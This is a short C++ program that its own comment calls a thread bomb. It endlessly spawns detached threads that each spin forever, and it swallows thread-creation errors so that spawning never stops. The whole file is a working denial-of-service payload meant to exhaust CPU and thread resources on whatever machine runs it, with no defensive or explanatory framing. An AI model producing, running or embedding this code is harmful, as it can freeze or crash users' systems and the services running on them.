// Thread bomb: spinning threads without end; creation failures are ignored and retried.
#include <thread>
#include <system_error>
int main() {
    for (;;) {
        try { std::thread([] { for (;;) { asm volatile(""); } }).detach(); } catch (const std::system_error&) {}
    }
}
